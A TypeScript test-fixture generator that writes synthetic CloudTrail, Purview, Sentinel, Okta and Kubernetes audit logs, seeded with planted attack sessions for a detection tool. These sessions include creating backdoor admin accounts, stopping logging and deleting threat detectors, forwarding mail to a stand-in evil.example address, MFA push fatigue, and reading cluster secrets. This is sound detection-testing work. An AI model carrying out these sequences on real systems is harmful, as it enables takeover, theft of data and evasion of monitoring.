@@ -1,0 +1,668 @@
+// Realistic exports of five products, written from their public schemas (field names, nesting, time
+// formats and file layout as each product writes them), with routine sessions of several identities and
+// planted attack sessions. Seeded: the same seed writes the same files.
+import { mkdirSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { gzipSync } from "node:zlib";
+import { rng } from "../../src/demo/generate.js";
+
+/** One action of a session: the product-specific fields that vary. */
+type Action = Record<string, unknown>;
+
+/** A session to write: who, when it starts, and its actions (one event each, 20-60 s apart). */
+interface Planned {
+  readonly identity: string;
+  readonly startMs: number;
+  readonly actions: readonly Action[];
+  readonly attack: boolean;
+}
+
+/** An attack session as the tests look for it in the ranking. */
+export interface PlantedSession {
+  readonly identity: string;
+  readonly startMs: number;
+}
+
+/** What a generator wrote. */
+export interface SampleExport {
+  /** The path to give seqhunt (a folder or a file). */
+  readonly input: string;
+  readonly planted: readonly PlantedSession[];
+  readonly events: number;
+}
+
+const DAY = 86_400_000;
+const T0 = Date.UTC(2026, 8, 28, 0, 0, 0);
+
+/** Routine sessions over five days (2-3 per identity per working day) plus the attacks at given times. */
+function plan(
+  seed: number,
+  identities: readonly string[],
+  routines: readonly (readonly Action[])[],
+  attacks: readonly { identity: string; dayHour: [number, number]; actions: readonly Action[] }[],
+): { sessions: Planned[]; random: () => number } {
+  const random = rng(seed);
+  const sessions: Planned[] = [];
+  for (let day = 0; day < 5; day++) {
+    for (const identity of identities) {
+      const count = 2 + Math.floor(random() * 2);
+      for (let s = 0; s < count; s++) {
+        const hour = 8 + s * 3 + Math.floor(random() * 2);
+        const startMs = T0 + day * DAY + hour * 3_600_000 + Math.floor(random() * 1_800_000);
+        const routine = routines[Math.floor(random() * routines.length)] as readonly Action[];
+        sessions.push({ identity, startMs, actions: routine, attack: false });
+      }
+    }
+  }
+  for (const a of attacks) {
+    const startMs = T0 + a.dayHour[0] * DAY + a.dayHour[1] * 3_600_000 + 17 * 60_000;
+    sessions.push({ identity: a.identity, startMs, actions: a.actions, attack: true });
+  }
+  return { sessions, random };
+}
+
+/** Every event of the planned sessions in time order: identity, time, action. */
+function timeline(planned: {
+  sessions: Planned[];
+  random: () => number;
+}): { identity: string; ms: number; action: Action }[] {
+  const events: { identity: string; ms: number; action: Action }[] = [];
+  for (const s of planned.sessions) {
+    let ms = s.startMs;
+    for (const action of s.actions) {
+      events.push({ identity: s.identity, ms, action });
+      ms += 20_000 + Math.floor(planned.random() * 40_000) + Math.floor(planned.random() * 1000);
+    }
+  }
+  return events.sort((a, b) => a.ms - b.ms);
+}
+
+function plantedOf(planned: { sessions: Planned[] }): PlantedSession[] {
+  return planned.sessions.filter((s) => s.attack).map((s) => ({ identity: s.identity, startMs: s.startMs }));
+}
+
+function uuid(random: () => number): string {
+  const hex = () => Math.floor(random() * 16).toString(16);
+  const part = (n: number) => Array.from({ length: n }, hex).join("");
+  return `${part(8)}-${part(4)}-4${part(3)}-a${part(3)}-${part(12)}`;
+}
+
+function write(path: string, content: string | Buffer): void {
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, content);
+}
+
+// ---------------------------------------------------------------- AWS CloudTrail
+
+const ACCOUNT = "123456789012";
+const SSO_ROLE = "AWSReservedSSO_AdministratorAccess_0123456789abcdef";
+
+/**
+ * CloudTrail log files as S3 delivery lays them out: AWSLogs/<account>/CloudTrail/<region>/YYYY/MM/DD/
+ * <account>_CloudTrail_<region>_<YYYYMMDDTHHmmZ>_<id>.json.gz, each `{"Records": [...]}`. Identities are
+ * SSO assumed-role ARNs that differ only at their end.
+ */
+export function writeCloudTrail(dir: string, seed: number): SampleExport {
+  const users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
+  const arn = (u: string) => `arn:aws:sts::${ACCOUNT}:assumed-role/${SSO_ROLE}/${u}@example.com`;
+  const call = (eventSource: string, eventName: string, requestParameters: unknown = null): Action => ({
+    eventSource,
+    eventName,
+    requestParameters,
+  });
+  const routines = [
+    [
+      call("signin.amazonaws.com", "ConsoleLogin"),
+      call("ec2.amazonaws.com", "DescribeInstances", { maxResults: 50 }),
+      call("ec2.amazonaws.com", "DescribeSecurityGroups"),
+      call("cloudwatch.amazonaws.com", "GetMetricData"),
+      call("ec2.amazonaws.com", "DescribeInstances", { maxResults: 50 }),
+    ],
+    [
+      call("s3.amazonaws.com", "ListBuckets"),
+      call("s3.amazonaws.com", "GetBucketLocation", { bucketName: "app-artifacts" }),
+      call("s3.amazonaws.com", "GetObject", { bucketName: "app-artifacts", key: "build/app.zip" }),
+      call("s3.amazonaws.com", "PutObject", { bucketName: "app-artifacts", key: "build/app.zip" }),
+    ],
+    [
+      call("lambda.amazonaws.com", "ListFunctions20150331"),
+      call("lambda.amazonaws.com", "GetFunction20150331v2", { functionName: "billing" }),
+      call("logs.amazonaws.com", "DescribeLogStreams", { logGroupName: "/aws/lambda/billing" }),
+      call("logs.amazonaws.com", "GetLogEvents", { logGroupName: "/aws/lambda/billing" }),
+    ],
+  ];
+  const attacks = [
+    {
+      identity: arn("dave"),
+      dayHour: [3, 2] as [number, number],
+      actions: [
+        call("sts.amazonaws.com", "GetCallerIdentity"),
+        call("iam.amazonaws.com", "ListUsers"),
+        call("iam.amazonaws.com", "CreateUser", { userName: "svc-backup" }),
+        call("iam.amazonaws.com", "AttachUserPolicy", {
+          userName: "svc-backup",
+          policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
+        }),
+        call("iam.amazonaws.com", "CreateAccessKey", { userName: "svc-backup" }),
+        call("cloudtrail.amazonaws.com", "StopLogging", { name: "org-trail" }),
+      ],
+    },
+    {
+      identity: arn("grace"),
+      dayHour: [4, 23] as [number, number],
+      actions: [
+        call("s3.amazonaws.com", "ListBuckets"),
+        call("s3.amazonaws.com", "GetBucketPolicy", { bucketName: "customer-exports" }),
+        call("s3.amazonaws.com", "PutBucketPolicy", { bucketName: "customer-exports" }),
+        call("s3.amazonaws.com", "PutBucketAcl", { bucketName: "customer-exports" }),
+        call("guardduty.amazonaws.com", "DeleteDetector", { detectorId: "12abc34d567e8fa901bc2d34e56789f0" }),
+      ],
+    },
+  ];
+  const planned = plan(seed, users.map(arn), routines, attacks);
+  const random = planned.random;
+  const records = timeline(planned).map(({ identity, ms, action }) => {
+    const user = identity.slice(identity.lastIndexOf("/") + 1);
+    return {
+      eventVersion: "1.09",
+      userIdentity: {
+        type: "AssumedRole",
+        principalId: `AROA3XFRBF23EXAMPLE:${user}`,
+        arn: identity,
+        accountId: ACCOUNT,
+        accessKeyId: `ASIA${Math.floor(random() * 1e12)}`,
+        sessionContext: {
+          sessionIssuer: {
+            type: "Role",
+            principalId: "AROA3XFRBF23EXAMPLE",
+            arn: `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com/${SSO_ROLE}`,
+            accountId: ACCOUNT,
+            userName: SSO_ROLE,
+          },
+          attributes: {
+            creationDate: new Date(ms - 600_000).toISOString().replace(/\.\d+Z$/, "Z"),
+            mfaAuthenticated: "false",
+          },
+        },
+      },
+      eventTime: new Date(ms).toISOString().replace(/\.\d+Z$/, "Z"),
+      eventSource: action.eventSource,
+      eventName: action.eventName,
+      awsRegion: "us-east-1",
+      sourceIPAddress: `203.0.113.${10 + (user.length % 7)}`,
+      userAgent: "aws-cli/2.17.5 md/Botocore#1.34.139 ua/2.0 os/linux#6.8.0",
+      requestParameters: action.requestParameters,
+      responseElements: null,
+      requestID: uuid(random),
+      eventID: uuid(random),
+      readOnly: /^(Get|List|Describe)/.test(String(action.eventName)),
+      eventType: "AwsApiCall",
+      managementEvent: true,
+      recipientAccountId: ACCOUNT,
+      eventCategory: "Management",
+    };
+  });
+  // One file per hour, as CloudTrail delivers a file every few minutes per region.
+  const byHour = new Map<string, typeof records>();
+  for (const r of records) {
+    const key = r.eventTime.slice(0, 13);
+    byHour.set(key, [...(byHour.get(key) ?? []), r]);
+  }
+  const root = join(dir, "AWSLogs");
+  for (const [hour, recs] of byHour) {
+    const [y, m, d] = hour.slice(0, 10).split("-");
+    const stamp = `${hour.replace(/-/g, "").replace("T", "T")}00Z`.replace(/:/g, "");
+    const name = `${ACCOUNT}_CloudTrail_us-east-1_${stamp}_${uuid(random).slice(0, 16)}.json.gz`;
+    write(
+      join(root, ACCOUNT, "CloudTrail", "us-east-1", y as string, m as string, d as string, name),
+      gzipSync(JSON.stringify({ Records: recs })),
+    );
+  }
+  return { input: root, planted: plantedOf(planned), events: records.length };
+}
+
+// ---------------------------------------------------------------- Microsoft Purview / Sentinel
+
+const EXCHANGE_ROUTINES: Action[][] = [
+  [
+    { Operation: "Get-Mailbox", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
+    { Operation: "Get-MailboxPermission", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
+    {
+      Operation: "Add-MailboxPermission",
+      Parameters: [
+        { Name: "Identity", Value: "shared-sales" },
+        { Name: "AccessRights", Value: "FullAccess" },
+      ],
+    },
+    { Operation: "Get-MailboxPermission", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
+  ],
+  [
+    { Operation: "Get-DistributionGroup", Parameters: [] },
+    { Operation: "Get-DistributionGroupMember", Parameters: [{ Name: "Identity", Value: "all-staff" }] },
+    {
+      Operation: "Add-DistributionGroupMember",
+      Parameters: [
+        { Name: "Identity", Value: "all-staff" },
+        { Name: "Member", Value: "newhire" },
+      ],
+    },
+  ],
+  [
+    { Operation: "Get-User", Parameters: [] },
+    {
+      Operation: "Set-User",
+      Parameters: [
+        { Name: "Identity", Value: "newhire" },
+        { Name: "Department", Value: "Sales" },
+      ],
+    },
+    {
+      Operation: "Set-Mailbox",
+      Parameters: [
+        { Name: "Identity", Value: "newhire" },
+        { Name: "ProhibitSendQuota", Value: "49GB" },
+      ],
+    },
+    { Operation: "Get-User", Parameters: [] },
+  ],
+];
+const EXCHANGE_ATTACKS = (victim: string): Action[][] => [
+  [
+    { Operation: "Get-Mailbox", Parameters: [{ Name: "Identity", Value: victim }] },
+    {
+      Operation: "New-InboxRule",
+      Parameters: [
+        { Name: "Mailbox", Value: victim },
+        { Name: "ForwardTo", Value: "x@evil.example" },
+        { Name: "DeleteMessage", Value: "True" },
+      ],
+    },
+    {
+      Operation: "Set-Mailbox",
+      Parameters: [
+        { Name: "Identity", Value: victim },
+        { Name: "ForwardingSmtpAddress", Value: "smtp:x@evil.example" },
+      ],
+    },
+    { Operation: "Remove-MailboxAuditBypassAssociation", Parameters: [] },
+  ],
+  [
+    {
+      Operation: "New-ManagementRoleAssignment",
+      Parameters: [
+        { Name: "Role", Value: "ApplicationImpersonation" },
+        { Name: "User", Value: "svc-sync" },
+      ],
+    },
+    {
+      Operation: "Add-MailboxPermission",
+      Parameters: [
+        { Name: "Identity", Value: "ceo" },
+        { Name: "AccessRights", Value: "FullAccess" },
+      ],
+    },
+    { Operation: "Set-AdminAuditLogConfig", Parameters: [{ Name: "AdminAuditLogEnabled", Value: "False" }] },
+  ],
+];
+const ADMINS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace"].map(
+  (u) => `${u}@contoso.onmicrosoft.com`,
+);
+
+function exchangePlan(seed: number) {
+  const attacks = EXCHANGE_ATTACKS("cfo");
+  return plan(seed, ADMINS, EXCHANGE_ROUTINES, [
+    { identity: ADMINS[2] as string, dayHour: [2, 3], actions: attacks[0] as Action[] },
+    { identity: ADMINS[5] as string, dayHour: [4, 22], actions: attacks[1] as Action[] },
+  ]);
+}
+
+function csvCell(v: unknown): string {
+  const s = v === null || v === undefined ? "" : String(v);
+  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+}
+
+/**
+ * Purview audit log search exported as CSV: RecordId, CreationDate (`2026-09-30T17:45:27.0000000Z `, a
+ * trailing space as exported), RecordType, Operation, UserId, AuditData (JSON text with Parameters),
+ * AssociatedAdminUnits, AssociatedAdminUnitsNames.
+ */
+export function writePurview(dir: string, seed: number): SampleExport {
+  const planned = exchangePlan(seed);
+  const random = planned.random;
+  const rows = [
+    "RecordId,CreationDate,RecordType,Operation,UserId,AuditData,AssociatedAdminUnits,AssociatedAdminUnitsNames",
+  ];
+  const events = timeline(planned);
+  for (const { identity, ms, action } of events) {
+    const id = uuid(random);
+    const created = new Date(ms).toISOString().replace(/\.\d+Z$/, ".0000000Z ");
+    const audit = {
+      CreationTime: new Date(ms).toISOString().slice(0, 19),
+      Id: id,
+      Operation: action.Operation,
+      OrganizationId: "4a1c2b3d-0000-4000-a000-123456789abc",
+      RecordType: 1,
+      ResultStatus: "True",
+      UserKey: `NT AUTHORITY\\SYSTEM (w3wp)`,
+      UserType: 2,
+      Version: 1,
+      Workload: "Exchange",
+      ClientIP: "198.51.100.23:53012",
+      ObjectId: "",
+      UserId: identity,
+      AppId: "",
+      ClientAppId: "",
+      ExternalAccess: false,
+      OrganizationName: "contoso.onmicrosoft.com",
+      OriginatingServer: "DM6PR11MB4657 (15.20.7918.020)",
+      Parameters: action.Parameters,
+      SessionId: uuid(random),
+    };
+    rows.push(
+      [id, created, "ExchangeAdmin", action.Operation, identity, JSON.stringify(audit), "", ""]
+        .map(csvCell)
+        .join(","),
+    );
+  }
+  const path = join(dir, "Audit_Log_Search_Results.csv");
+  write(path, `${rows.join("\r\n")}\r\n`);
+  return { input: path, planted: plantedOf(planned), events: events.length };
+}
+
+/** The Azure portal's US time: `9/30/2026, 5:45:27.226 PM`. */
+function portalTime(ms: number): string {
+  const d = new Date(ms);
+  const h = d.getUTCHours();
+  const pad = (n: number, w = 2) => String(n).padStart(w, "0");
+  return `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()}, ${h % 12 === 0 ? 12 : h % 12}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)} ${h < 12 ? "AM" : "PM"}`;
+}
+
+/**
+ * Sentinel OfficeActivity as the Azure portal's Export to CSV writes it: a byte-order mark, headers with
+ * ` [UTC]` on time columns, US times, Parameters as JSON text.
+ */
+export function writeSentinelPortal(dir: string, seed: number): SampleExport {
+  const planned = exchangePlan(seed);
+  const random = planned.random;
+  const header = [
+    "TenantId",
+    "SourceSystem",
+    "TimeGenerated [UTC]",
+    "Operation",
+    "UserId",
+    "ClientIP",
+    "OfficeWorkload",
+    "RecordType",
+    "ResultStatus",
+    "Parameters",
+    "ElevationTime [UTC]",
+    "OrganizationName",
+    "Type",
+  ];
+  const rows = [header.join(",")];
+  const events = timeline(planned);
+  for (const { identity, ms, action } of events) {
+    rows.push(
+      [
+        "4a1c2b3d-0000-4000-a000-123456789abc",
+        "OfficeActivityManager",
+        portalTime(ms),
+        action.Operation,
+        identity,
+        `198.51.100.${Math.floor(random() * 200)}`,
+        "Exchange",
+        "ExchangeAdmin",
+        "True",
+        JSON.stringify(action.Parameters),
+        "",
+        "contoso.onmicrosoft.com",
+        "OfficeActivity",
+      ]
+        .map(csvCell)
+        .join(","),
+    );
+  }
+  const path = join(dir, "query_data.csv");
+  write(path, `\uFEFF${rows.join("\r\n")}\r\n`);
+  return { input: path, planted: plantedOf(planned), events: events.length };
+}
+
+// ---------------------------------------------------------------- Okta System Log
+
+/** Okta System Log events as /api/v1/logs returns them: a JSON array per page, one file per day. */
+export function writeOkta(dir: string, seed: number): SampleExport {
+  const users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"].map(
+    (u) => `${u}@example.com`,
+  );
+  const ev = (eventType: string, result = "SUCCESS", target = "Salesforce"): Action => ({
+    eventType,
+    result,
+    target,
+  });
+  const routines = [
+    [
+      ev("user.authentication.sso"),
+      ev("user.session.start"),
+      ev("user.authentication.auth_via_mfa"),
+      ev("app.oauth2.as.token.grant"),
+    ],
+    [
+      ev("user.session.start"),
+      ev("user.authentication.auth_via_mfa"),
+      ev("user.authentication.sso", "SUCCESS", "Slack"),
+      ev("user.authentication.sso", "SUCCESS", "GitHub"),
+    ],
+    [
+      ev("user.session.start"),
+      ev("user.authentication.auth_via_mfa"),
+      ev("user.authentication.sso", "SUCCESS", "Jira"),
+      ev("user.session.end"),
+    ],
+  ];
+  const attacks = [
+    {
+      identity: users[3] as string,
+      dayHour: [2, 4] as [number, number],
+      actions: [
+        ev("user.session.start", "FAILURE"),
+        ev("user.session.start", "FAILURE"),
+        ev("user.session.start", "FAILURE"),
+        ev("user.session.start"),
+        ev("system.push.send_factor_verify_push", "FAILURE"),
+        ev("system.push.send_factor_verify_push", "FAILURE"),
+        ev("user.authentication.auth_via_mfa"),
+        ev("user.mfa.factor.activate"),
+      ],
+    },
+    {
+      identity: users[6] as string,
+      dayHour: [4, 21] as [number, number],
+      actions: [
+        ev("user.session.start"),
+        ev("user.authentication.auth_via_mfa"),
+        ev("user.account.privilege.grant", "SUCCESS", "Super administrator"),
+        ev("policy.lifecycle.deactivate", "SUCCESS", "MFA policy"),
+        ev("system.api_token.create", "SUCCESS", "automation"),
+      ],
+    },
+  ];
+  const planned = plan(seed, users, routines, attacks);
+  const random = planned.random;
+  const events = timeline(planned).map(({ identity, ms, action }) => ({
+    actor: {
+      id: `00u${identity.length}${identity.charCodeAt(0)}abc`,
+      type: "User",
+      alternateId: identity,
+      displayName: identity.split("@")[0],
+      detailEntry: null,
+    },
+    client: {
+      userAgent: {
+        rawUserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)",
+        os: "Mac OS X",
+        browser: "CHROME",
+      },
+      zone: "null",
+      device: "Computer",
+      id: null,
+      ipAddress: `198.51.100.${identity.length * 3}`,
+      geographicalContext: {
+        city: "Portland",
+        state: "Oregon",
+        country: "United States",
+        postalCode: "97201",
+        geolocation: { lat: 45.5, lon: -122.6 },
+      },
+    },
+    authenticationContext: {
+      authenticationProvider: null,
+      credentialProvider: null,
+      credentialType: null,
+      issuer: null,
+      interface: null,
+      authenticationStep: 0,
+      externalSessionId: uuid(random).slice(0, 20),
+    },
+    displayMessage: String(action.eventType),
+    eventType: action.eventType,
+    outcome: { result: action.result, reason: action.result === "FAILURE" ? "INVALID_CREDENTIALS" : null },
+    published: new Date(ms).toISOString(),
+    securityContext: {
+      asNumber: 64496,
+      asOrg: "example isp",
+      isp: "example isp",
+      domain: "example.net",
+      isProxy: false,
+    },
+    severity: action.result === "FAILURE" ? "WARN" : "INFO",
+    debugContext: {
+      debugData: {
+        requestId: uuid(random),
+        requestUri: "/api/v1/authn",
+        url: "/api/v1/authn?",
+        threatSuspected: "false",
+      },
+    },
+    legacyEventType: null,
+    transaction: { type: "WEB", id: uuid(random).slice(0, 20), detail: {} },
+    uuid: uuid(random),
+    version: "0",
+    request: { ipChain: [{ ip: `198.51.100.${identity.length * 3}`, version: "V4", source: null }] },
+    target: [
+      {
+        id: "0oa1abcd",
+        type: "AppInstance",
+        alternateId: action.target,
+        displayName: action.target,
+        detailEntry: null,
+      },
+    ],
+  }));
+  const byDay = new Map<string, typeof events>();
+  for (const e of events)
+    byDay.set(e.published.slice(0, 10), [...(byDay.get(e.published.slice(0, 10)) ?? []), e]);
+  const root = join(dir, "okta");
+  for (const [day, list] of byDay) write(join(root, `systemlog-${day}.json`), JSON.stringify(list, null, 2));
+  return { input: root, planted: plantedOf(planned), events: events.length };
+}
+
+// ---------------------------------------------------------------- Kubernetes audit
+
+/** A Kubernetes API server audit log (audit.k8s.io/v1 Event per line), as --audit-log-path writes it. */
+export function writeK8sAudit(dir: string, seed: number): SampleExport {
+  const users = [
+    "alice@example.com",
+    "bob@example.com",
+    "carol@example.com",
+    "system:serviceaccount:ci:deployer",
+    "system:serviceaccount:monitoring:prometheus",
+    "dave@example.com",
+  ];
+  const req = (
+    verb: string,
+    resource: string,
+    namespace: string | null,
+    name: string | null = null,
+    subresource: string | null = null,
+  ): Action => ({ verb, resource, namespace, name, subresource });
+  const routines = [
+    [
+      req("list", "pods", "web"),
+      req("get", "pods", "web", "web-7d9f"),
+      req("get", "pods", "web", "web-7d9f", "log"),
+      req("list", "events", "web"),
+    ],
+    [
+      req("get", "deployments", "web", "web"),
+      req("patch", "deployments", "web", "web"),
+      req("list", "replicasets", "web"),
+      req("list", "pods", "web"),
+      req("watch", "pods", "web"),
+    ],
+    [
+      req("list", "namespaces", null),
+      req("list", "nodes", null),
+      req("list", "pods", "monitoring"),
+      req("get", "configmaps", "monitoring", "prometheus"),
+    ],
+  ];
+  const attacks = [
+    {
+      identity: users[3] as string,
+      dayHour: [2, 3] as [number, number],
+      actions: [
+        req("create", "selfsubjectaccessreviews", null),
+        req("list", "secrets", "kube-system"),
+        req("get", "secrets", "kube-system", "admin-token"),
+        req("create", "pods", "kube-system", "debug"),
+        req("create", "pods", "kube-system", "debug", "exec"),
+      ],
+    },
+    {
+      identity: users[1] as string,
+      dayHour: [4, 23] as [number, number],
+      actions: [
+        req("create", "clusterrolebindings", null, "backdoor-admin"),
+        req("create", "serviceaccounts", "default", "backdoor"),
+        req("create", "serviceaccounts", "default", "backdoor", "token"),
+        req("delete", "events", "default"),
+      ],
+    },
+  ];
+  const planned = plan(seed, users, routines, attacks);
+  const random = planned.random;
+  const micros = (ms: number, extra: number) =>
+    new Date(ms).toISOString().replace(/(\.\d{3})Z$/, `$1${String(extra).padStart(3, "0")}Z`);
+  const lines = timeline(planned).map(({ identity, ms, action }) => {
+    const objectRef: Record<string, unknown> = { resource: action.resource, apiVersion: "v1" };
+    if (action.namespace !== null) objectRef.namespace = action.namespace;
+    if (action.name !== null) objectRef.name = action.name;
+    if (action.subresource !== null) objectRef.subresource = action.subresource;
+    const ns = action.namespace === null ? "" : `/namespaces/${action.namespace}`;
+    return JSON.stringify({
+      kind: "Event",
+      apiVersion: "audit.k8s.io/v1",
+      level: "Metadata",
+      auditID: uuid(random),
+      stage: "ResponseComplete",
+      requestURI: `/api/v1${ns}/${action.resource}${action.name === null ? "" : `/${action.name}`}${action.subresource === null ? "" : `/${action.subresource}`}`,
+      verb: action.verb,
+      user: {
+        username: identity,
+        groups: identity.startsWith("system:")
+          ? ["system:serviceaccounts", "system:authenticated"]
+          : ["developers", "system:authenticated"],
+      },
+      sourceIPs: [`10.0.${identity.length}.${Math.floor(random() * 250)}`],
+      userAgent: "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505",
+      objectRef,
+      responseStatus: { metadata: {}, code: action.verb === "create" ? 201 : 200 },
+      requestReceivedTimestamp: micros(ms, Math.floor(random() * 1000)),
+      stageTimestamp: micros(ms + 40, Math.floor(random() * 1000)),
+      annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "" },
+    });
+  });
+  const path = join(dir, "kube-apiserver-audit.jsonl");
+  write(path, `${lines.join("\n")}\n`);
+  return { input: path, planted: plantedOf(planned), events: lines.length };
+}
